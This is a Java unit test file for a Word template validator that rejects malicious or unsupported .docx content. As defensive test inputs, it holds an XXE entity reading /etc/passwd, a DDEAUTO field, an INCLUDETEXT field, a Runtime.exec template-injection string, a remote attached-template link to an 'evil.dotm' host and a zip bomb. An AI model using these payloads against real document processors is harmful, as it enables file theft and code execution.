package org.lianjian.documents.control;

import static org.assertj.core.api.Assertions.assertThat;
import static org.lianjian.documents.control.Sheets.paragraph;

import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.lianjian.documents.boundary.DocumentNames;
import org.lianjian.documents.control.word.TemplateCheck;
import org.lianjian.documents.control.word.TemplateFault;

/** What may be a template and what may not. */
class TemplateCheckTest {

    private static final DocumentNames NAMES = DocumentNames.of("目标").list("承诺", "事项");

    @Test
    void aModestFileIsTaken() {
        assertThat(faults(paragraph("{{标题}} {{目标}}") + paragraph("{{?承诺}}") + paragraph("{{承诺.事项}}") + paragraph("{{/承诺}}"))).isEmpty();
    }

    @Test
    void everyUnknownNameIsReportedOnceByItsName() {
        assertThat(of(faults(paragraph("{{标题}}{{目的}}{{承诺.金额}}{{目的}}")), "unknownName")).containsExactly("目的", "承诺.金额");
    }

    @Test
    void aNameThatTheWordProcessorCutUpIsFound() {
        assertThat(of(faults("<w:p><w:r><w:t>{{目</w:t></w:r><w:r><w:rPr><w:b/></w:rPr><w:t>的}}</w:t></w:r></w:p>"), "unknownName"))
                .containsExactly("目的");
    }

    @Test
    void marksThatDoNotCloseAreReported() {
        assertThat(of(faults(paragraph("{{标题} 与")), "torn")).hasSize(1);
        assertThat(of(faults(paragraph("{{?承诺}}") + paragraph("x")), "notClosed")).containsExactly("承诺");
        assertThat(of(faults(paragraph("{{/承诺}}")), "notOpened")).containsExactly("承诺");
        assertThat(of(faults(paragraph("见 {{?承诺}}")), "edgeInText")).hasSize(1);
    }

    @Test
    void nothingIsComputed() {
        assertThat(of(faults("<w:p><w:fldSimple w:instr=\" INCLUDETEXT c:/secret.txt \"/></w:p>"), "field"))
                .containsExactly("INCLUDETEXT c:/secret.txt");
        assertThat(of(faults("<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DDEAUTO c:\\cmd</w:instrText></w:r>"
                + "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>"), "field")).containsExactly("DDEAUTO c:\\cmd");
        assertThat(of(faults(paragraph("{{1+1}} {{T(java.lang.Runtime).getRuntime().exec('x')}} ${7*7} #{7*7}")), "unknownName")).hasSize(2);
    }

    @Test
    void whatComesFromOutsideIsRefused() {
        byte[] linked = Sheets.with("word/_rels/document.xml.rels", xml -> xml.replace("</Relationships>", "<Relationship Id=\"rId9\" "
                + "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" "
                + "Target=\"http://192.0.2.1/evil.dotm\" TargetMode=\"External\"/></Relationships>"));
        assertThat(of(TemplateCheck.faults(linked, NAMES), "outside")).containsExactly("http://192.0.2.1/evil.dotm");
        byte[] entity = Sheets.with("word/document.xml", xml -> xml.replace("<w:document",
                "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><w:document"));
        assertThat(TemplateCheck.faults(entity, NAMES)).extracting(TemplateFault::key).containsExactly("documents.template.notWord");
    }

    @Test
    void whatRunsOrIsHiddenIsRefused() {
        byte[] macros = Sheets.carrying("word/vbaProject.bin", "application/vnd.ms-office.vbaProject", new byte[] {1});
        assertThat(TemplateCheck.faults(macros, NAMES)).extracting(TemplateFault::key).containsExactly("documents.template.macros");
        byte[] object = Sheets.carrying("word/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject", new byte[] {1});
        assertThat(of(TemplateCheck.faults(object, NAMES), "part")).containsExactly("/word/embeddings/oleObject1.bin");
    }

    @Test
    void whatCannotBeSetIsRefusedByName() {
        assertThat(keys(faults("<w:p><w:r><w:pict/></w:r></w:p>"))).contains("documents.template.has.shape");
        assertThat(keys(faults("<w:p><w:pPr><w:numPr/></w:pPr></w:p>"))).contains("documents.template.has.numbering");
        assertThat(keys(faults("<w:p><w:ins w:id=\"1\"><w:r><w:t>x</w:t></w:r></w:ins></w:p>"))).contains("documents.template.has.tracked");
        assertThat(keys(faults("<w:p><w:r><w:rPr><w:emboss/></w:rPr></w:r></w:p>"))).contains("documents.template.has.other");
    }

    @Test
    void otherFilesAreNoTemplates() {
        assertThat(keys(TemplateCheck.faults("%PDF-1.7".getBytes(StandardCharsets.US_ASCII), NAMES))).containsExactly("documents.template.notWord");
        assertThat(keys(TemplateCheck.faults(new byte[0], NAMES))).containsExactly("documents.template.notWord");
        byte[] bomb = Sheets.carrying("word/media/a.png", "image/png", new byte[21 * 1024 * 1024]);
        assertThat(bomb.length).isLessThan(200_000);
        assertThat(keys(TemplateCheck.faults(bomb, NAMES))).containsExactly("documents.template.notWord");
    }

    private static List<TemplateFault> faults(String body) {
        return TemplateCheck.faults(Sheets.saying(body), NAMES);
    }


    private static List<Object> of(List<TemplateFault> faults, String what) {
        return faults.stream().filter(fault -> fault.key().equals("documents.template." + what)).map(fault -> fault.values().get(0)).toList();
    }

    private static List<String> keys(List<TemplateFault> faults) {
        return faults.stream().map(TemplateFault::key).toList();
    }
}
